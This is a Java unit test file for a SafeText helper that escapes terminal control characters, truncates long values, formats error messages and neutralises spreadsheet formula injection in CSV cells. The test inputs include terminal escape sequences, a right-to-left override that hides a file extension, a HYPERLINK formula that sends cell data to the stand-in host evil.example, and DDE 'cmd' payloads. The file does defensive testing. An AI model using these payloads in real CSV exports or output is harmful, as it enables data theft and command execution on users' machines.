package org.ecrm.core.io;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;

class SafeTextTest {
  @Test
  void controlCharactersAreEscaped_plainTextIsKept() {
    assertThat(SafeText.escape("\u001b]0;owned\u0007\u001b[2J")).isEqualTo("\\e]0;owned\\x07\\e[2J");
    assertThat(SafeText.escape("a\tb\rc\nd\u0000e\u007f")).isEqualTo("a\\tb\\rc\\nd\\0e\\x7f");
    assertThat(SafeText.escape("\u009b31m \u202egnp.exe \u2066x")).isEqualTo("\\u009b31m \\u202egnp.exe \\u2066x");
    String plain = "Ünïcödé / path?q=1 – 東京";
    assertThat(SafeText.escape(plain)).isSameAs(plain);
    assertThat(SafeText.escape(SafeText.escape("\u001b"))).isEqualTo("\\e");
  }

  @Test
  void longValuesAreCutTo200_withTheirLengthStated() {
    String ten = "x".repeat(10 << 20);
    String a = SafeText.abbreviate(ten);
    assertThat(a).startsWith("x".repeat(200)).endsWith("… (10485760 chars)").hasSize(200 + "… (10485760 chars)".length());
    assertThat(SafeText.abbreviate("short")).isEqualTo("short");
    String emoji = "y".repeat(199) + "\uD83D\uDE00" + "z";
    assertThat(SafeText.abbreviate(emoji)).startsWith("y".repeat(199) + "…");
    assertThat(SafeText.abbreviate("\u001b".repeat(300))).startsWith("\\e\\e").endsWith("… (300 chars)");
    assertThatThrownBy(() -> SafeText.abbreviate("x", 0)).hasMessageContaining("max");
  }

  @Test
  void csvCells_neutraliseFormulas_whileNumbersStayNumbers() {
    assertThat(SafeText.csvCell("=HYPERLINK(\"http://evil.example/?\"&A1)"))
        .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
    assertThat(SafeText.csvCell("+cmd|' /C calc'!A0")).isEqualTo("'+cmd|' /C calc'!A0");
    assertThat(SafeText.csvCell("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
    assertThat(SafeText.csvCell("@SUM(1+1)*cmd")).isEqualTo("'@SUM(1+1)*cmd");
    assertThat(SafeText.csvCell("\t=1+1")).isEqualTo("'\t=1+1");
    assertThat(SafeText.csvCell("\r=1+1")).isEqualTo("\"'\r=1+1\"");
    for (String n : new String[] {"-12.50", "+5", "-0.5", "1e3", "-1E-3", "42", "-.5"}) {
      assertThat(SafeText.csvCell(n)).as(n).isEqualTo(n);
    }
    assertThat(SafeText.csvCell("a,b")).isEqualTo("\"a,b\"");
    assertThat(SafeText.csvCell("Champions")).isEqualTo("Champions");
    assertThat(SafeText.csvCell("")).isEmpty();
  }

  @Test
  void messagesHaveOneForm() {
    assertThat(SafeText.message("tx.csv", 4, "amount", "not a decimal number", "1e\u001b"))
        .isEqualTo("tx.csv:4: amount: not a decimal number '1e\\e'");
    assertThat(SafeText.message("tx.csv", 4, "", "truncated gzip after line 3", "")).isEqualTo("tx.csv:4: truncated gzip after line 3");
  }
}
